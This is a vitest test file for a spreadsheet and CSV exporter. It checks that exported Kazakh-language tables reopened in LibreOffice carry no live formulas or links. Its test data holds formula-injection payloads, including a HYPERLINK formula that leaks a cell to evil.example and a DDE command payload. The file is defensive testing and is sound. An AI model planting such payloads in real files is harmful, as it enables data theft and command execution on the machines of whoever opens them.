import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import { afterAll, beforeAll, expect, test } from "vitest";
import { csvOf } from "../../src/platform/export/csv.ts";
import type { Cell, Table } from "../../src/platform/export/list.ts";
import { xlsxOf } from "../../src/platform/export/xlsx.ts";

const office = "/usr/bin/soffice";
let folder: string;

beforeAll(() => {
  // Half a gigabyte that only this test needs; whoever may not install it has to bring it.
  if (!existsSync(office)) {
    const apt = (...words: string[]) =>
      execFileSync("apt-get", words, { env: { ...process.env, DEBIAN_FRONTEND: "noninteractive" } });
    apt("update", "-qq");
    apt("install", "-y", "-qq", "--no-install-recommends", "libreoffice-calc-nogui");
  }
  folder = mkdtempSync(path.join(os.tmpdir(), "spreadsheet-"));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const nasty = [
  `=HYPERLINK("http://evil.example/?x="&B1;"көр")`,
  `=cmd|'/C calc'!A0`,
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "＝1+1",
  `";=1+1;"`,
  `"\r\n=1+1;"`,
  "{=1+1}",
  "_x003D_1+1",
  "of:=1+1",
  "msoxl:=1+1",
  "Әбілова",
];

const table = (): Table => ({
  title: "people-kokshetau",
  columns: [
    { title: "Тегі", kind: "text", width: 20 },
    { title: "Жасы", kind: "number", width: 9 },
    { title: "Тіркелген күні", kind: "day", width: 12 },
  ],
  rows: (async function* (): AsyncGenerator<Cell[][]> {
    yield nasty.map((name, index) => [name, index, "2026-11-22"]);
  })(),
});

/** The file as LibreOffice understands it, every cell with its formula where it has one (flat OpenDocument). */
function openIn(file: string, ...filter: string[]): string {
  const profile = `-env:UserInstallation=file://${folder}/profile`;
  const words = [profile, "--headless", ...filter, "--convert-to", "fods", "--outdir", folder, file];
  execFileSync(office, words, { stdio: "pipe", timeout: 300_000 });
  return readFileSync(file.replace(/\.\w+$/, ".fods"), "utf8");
}

const cellsOf = (flat: string) => [
  ...flat.matchAll(/<table:table-cell[^>]*office:value-type="(\w+)"[^>]*>/g),
];

test("a list opened in LibreOffice has no live cell, its ages are numbers and its days are days (S8)", async () => {
  const file = path.join(folder, "list.xlsx");
  writeFileSync(file, await buffer(Readable.from(xlsxOf(table()))));
  const flat = openIn(file);
  expect(flat).not.toContain("table:formula");
  expect(flat).not.toContain("xlink:href");
  const types = cellsOf(flat).map((cell) => cell[1]);
  expect(types.filter((type) => type === "string")).toHaveLength(nasty.length + 3);
  expect(types.filter((type) => type === "float")).toHaveLength(nasty.length);
  expect(types.filter((type) => type === "date")).toHaveLength(nasty.length);
  expect(flat).toContain("Әбілова");
});

test("so has the CSV, read with semicolons and even where texts may be taken for formulas", async () => {
  const file = path.join(folder, "plain.csv");
  writeFileSync(file, await buffer(Readable.from(csvOf(table()))));
  // Semicolon, quotation mark, UTF-8, from the first line, all columns standard, quoted fields evaluated, formulas allowed.
  const flat = openIn(file, "--infilter=CSV:59,34,76,1,,1033,false,true,false,false,false,0,true");
  expect(flat).not.toContain("table:formula");
  expect(flat).toContain("Әбілова");
  expect(cellsOf(flat).length).toBeGreaterThan(nasty.length * 2);
});
